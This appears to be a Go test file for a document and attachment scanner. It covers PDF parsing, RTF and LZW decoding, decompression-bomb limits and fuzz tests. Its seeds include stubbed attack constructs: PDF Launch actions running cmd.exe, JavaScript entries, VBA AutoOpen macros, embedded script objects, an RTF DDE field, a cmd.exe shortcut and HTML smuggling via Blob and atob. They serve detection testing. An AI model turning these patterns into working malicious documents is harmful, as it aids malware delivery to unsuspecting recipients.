// TestPDF_Objects: what stands in object streams, and after an update, counts.
func TestPDF_Objects(t *testing.T) {
	t.Parallel()
	inner := "5 0 << /S /URI /URI (https://in.example/) >>"
	first := strings.Index(inner, "<<")
	packed := buildPDF(pdfStreamOf(fmt.Sprintf("/Type /ObjStm /N 1 /First %d /Filter /FlateDecode", first), deflated(inner)))
	if f := open(t, "a.pdf", "", packed); len(f.Links) != 1 || f.Links[0].Target != "https://in.example/" {
		t.Errorf("object stream: %v", f.Links)
	}
	updated := append(buildPDF("<< /Type /Catalog >>"), "1 0 obj << /S /Launch /F (cmd.exe) >> endobj\n%%EOF"...)
	if f := open(t, "a.pdf", "", updated); !has(f, "PDF.Launch.Command") {
		t.Errorf("update: %+v", f.Findings)
	}
	locked := bytes.Replace(buildPDF("<< /Type /Catalog >>", "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O (01234567890123456789012345678901) /U (01234567890123456789012345678901) >>"), []byte("/Root 1 0 R"), []byte("/Root 1 0 R /Encrypt 2 0 R /ID [(x)(x)]"), 1)
	if f := open(t, "a.pdf", "", locked); f.Locked == "" {
		t.Error("an encrypted file opens")
	}
}

func TestUnpackRTF(t *testing.T) {
	t.Parallel()
	// MS-OXRTFCP §4.1.1.
	b, err := hex.DecodeString("2d0000002b0000004c5a4675f1c5c7a703000a007263706731323542320af32068656c09002062770" + "5b06c647d0a800fa0")
	if err != nil {
		t.Fatal(err)
	}
	if got, want := string(UnpackRTF(b)), "{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n"; got != want || len(lzfuStart) != 207 {
		t.Errorf("%q, want %q", got, want)
	}
	for n := range b { // what is cut off gives as much as there is
		UnpackRTF(b[:n])
	}
}

func TestLZW(t *testing.T) {
	t.Parallel()
	// ISO 32000-1 §7.4.4.2, example 1.
	got := unLZW([]byte{0x80, 0x0b, 0x60, 0x50, 0x22, 0x0c, 0x0c, 0x85, 0x01}, 1, 1000)
	if want := []byte{45, 45, 45, 45, 45, 65, 45, 45, 45, 66}; !bytes.Equal(got, want) {
		t.Errorf("%v, want %v", got, want)
	}
}

// TestLimits: bombs end, and say so.
func TestLimits(t *testing.T) {
	t.Parallel()
	bomb := deflated(strings.Repeat("\x00", 40<<20))
	pdf := buildPDF("<< /EF << /F 2 0 R >> >>", pdfStreamOf("/Filter /FlateDecode", bomb))
	if _, err := Open(File{Name: "a.pdf", Data: pdf}, Limits{Bytes: 1 << 20}); !errors.Is(err, ErrBytes) {
		t.Errorf("bomb: %v", err)
	}
	late := errors.New("late")
	if _, err := Open(File{Name: "a.pdf", Data: pdf}, Limits{Bytes: 1 << 30, Late: func() error { return late }}); !errors.Is(err, late) {
		t.Errorf("late: %v", err)
	}
	for name, data := range map[string][]byte{
		"groups": []byte(`{\rtf1` + strings.Repeat("{", 1<<20)),
		"ring":   buildPDF("2 0 R", "1 0 R"),
	} {
		if f := open(t, "a", "", data); f.Locked != "" {
			t.Errorf("%s: %s", name, f.Locked)
		}
	}
}

// A class is only that of what no ordinary document does, and every finding has
// a sentence.
func TestFindings_AreExplained(t *testing.T) {
	t.Parallel()
	f := open(t, "a.pdf.exe", "application/vnd.microsoft.portable-executable", program())
	for _, x := range f.Findings {
		if x.Class != policy.Suspicious || x.Reason == "" || x.Score <= 0 {
			t.Errorf("%+v", x)
		}
	}
	if len(f.Findings) != 1 {
		t.Errorf("%+v", f.Findings)
	}
}

// fuzzed is what every fuzz test below asks: a reader ends within its limits, and
// does not panic.
func fuzzed(f *testing.F, name string, seeds ...[]byte) {
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		r := newReader(File{Name: name, Attached: true, Data: data}, Limits{Bytes: 8 << 20})
		r.disguise()
		if read := r.format(); read != nil {
			_ = read() // Without the guard: a panic is a fault of ours. Limits are none.
		}
		out := r.done()
		if len(out.Text) > 2*maxText || len(out.Links) > maxLinks || len(out.Embedded) > maxEmbedded || len(out.Findings) > maxFindings {
			t.Errorf("%d bytes of text, %d links, %d files, %d findings", len(out.Text), len(out.Links), len(out.Embedded), len(out.Findings))
		}
	})
}

func FuzzOLE(f *testing.F) {
	fuzzed(f, "a.doc", buildCFB("", stream{"VBA", "M", module("Sub AutoOpen()\r\nEnd Sub")}), buildCFB("", stream{"", "Workbook", buildXLS(true, "Auto_Open", []byte{0x42, 1, 0x6e, 0})}),
		buildCFB("", stream{"", "\x01Ole10Native", native("a.js", []byte("x"))}), buildCFB("", stream{"", "PowerPoint Document", pptObject([]byte("x"))}))
}

func FuzzPDF(f *testing.F) {
	fuzzed(f, "a.pdf", buildPDF("<< /Type /Page /Contents 2 0 R >>", pdfStreamOf("/Filter /FlateDecode", deflated("BT (x) Tj ET"))), buildPDF("<< /EF << /F 2 0 R >> >>", pdfStreamOf("/Filter [/A85 /LZW /RL /AHx]", []byte("abc~>"))),
		buildPDF("<< /S /Launch /F (cmd.exe) >>", "<< /JS 1 0 R /XFA [1 0 R] >>"))
}

func FuzzRTF(f *testing.F) {
	fuzzed(f, "a.rtf", buildRTF("Package", native("a.js", []byte("x"))[4:], `\objupdate`, `\bin3 abc`), []byte(`{\rtf1{\field{\*\fldinst DDE}}\u8364?\'fc}`))
}

func FuzzLNK(f *testing.F) { fuzzed(f, "a.lnk", buildLNK("cmd.exe", "/c x", "y")) }

func FuzzOneNote(f *testing.F) { fuzzed(f, "a.one", buildOne("a.js", []byte("x"))) }

func FuzzPage(f *testing.F) {
	fuzzed(f, "a.html", smuggled("new Blob([atob(d)])"), []byte(`<a href="data:text/html;base64,AAAA"><svg onload=x>`))
}
